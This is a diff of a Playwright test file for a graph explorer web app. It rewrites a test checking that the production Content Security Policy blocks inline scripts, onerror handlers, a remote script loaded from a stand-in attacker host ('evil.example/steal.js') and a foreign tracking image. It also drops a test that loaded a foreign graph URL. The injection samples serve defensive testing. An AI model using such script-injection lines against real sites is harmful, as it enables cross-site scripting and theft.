@@ -150,13 +150,16 @@ test("a truncated ?graph= from the same origin shows its error over the bundled 
   expect(await page.evaluate(() => window.__explorer!.graph.hasNode("petrov-hostile"))).toBe(false);
 });
 
-test("the production CSP really blocks inline scripts and foreign origins", async ({ page }) => {
+// connect-src stays open to http(s) on purpose: a ?graph= on another origin loads once the user
+// confirms (explorer-robustness.spec.ts tests both the question and the load). Code, styles'
+// sources, images and frames from other origins stay forbidden.
+test("the production CSP really blocks inline scripts and foreign code and images", async ({ page }) => {
   await page.goto("/");
   await waitForGraph(page);
   const outcome = await page.evaluate(async () => {
     const violations: string[] = [];
     document.addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective));
-    const w = window as unknown as { __inline?: number };
+    const w = window as unknown as { __inline?: number; __foreign?: number };
     const s = document.createElement("script");
     s.textContent = "window.__inline = 1";
     document.body.append(s);
@@ -164,32 +167,19 @@ test("the production CSP really blocks inline scripts and foreign origins", asyn
     img.setAttribute("onerror", "window.__inline = 2");
     img.src = "x";
     document.body.append(img);
-    let foreign = "loaded";
-    try {
-      await fetch("https://evil.example/graph.json");
-    } catch {
-      foreign = "blocked";
-    }
-    await new Promise((r) => setTimeout(r, 200));
-    return { inline: w.__inline ?? null, foreign, violations };
+    const remote = document.createElement("script");
+    remote.src = "https://evil.example/steal.js";
+    document.body.append(remote);
+    const pixel = document.createElement("img");
+    pixel.src = "https://evil.example/pixel.png";
+    document.body.append(pixel);
+    await new Promise((r) => setTimeout(r, 300));
+    return { inline: w.__inline ?? null, foreign: w.__foreign ?? null, violations };
   });
   expect(outcome.inline).toBeNull();
-  expect(outcome.foreign).toBe("blocked");
-  expect(outcome.violations).toEqual(expect.arrayContaining([expect.stringMatching(/^script-src/), expect.stringMatching(/^connect-src/)]));
-});
-
-test("a foreign ?graph= the user confirms still cannot reach another origin: an error, and the bundled graph stays", async ({ page }) => {
-  const reached: string[] = [];
-  await page.route("https://evil.example/**", (route) => {
-    reached.push(route.request().url());
-    return route.fulfill({ contentType: "application/json", body: readFileSync(join(SERVED, "xss-graph.json"), "utf8") });
-  });
-  await page.goto("/?graph=https://evil.example/graph.json");
-  const dialog = page.getByTestId("confirm-foreign");
-  await expect(dialog).toContainText("https://evil.example/graph.json");
-  await dialog.getByRole("button", { name: /open|load|yes|continue/i }).click();
-  await expect(page.getByTestId("load-error")).toContainText("could not load https://evil.example/graph.json");
-  await waitForGraph(page);
-  expect(await page.evaluate(() => window.__explorer!.graph.hasNode("petrov-hostile"))).toBe(false);
-  expect(reached).toEqual([]);
+  expect(outcome.foreign).toBeNull();
+  expect(outcome.violations).toEqual(
+    expect.arrayContaining([expect.stringMatching(/^script-src/), expect.stringMatching(/^img-src/)]),
+  );
+  expect(outcome.violations.filter((v) => v.startsWith("script-src")).length).toBeGreaterThanOrEqual(2);
 });
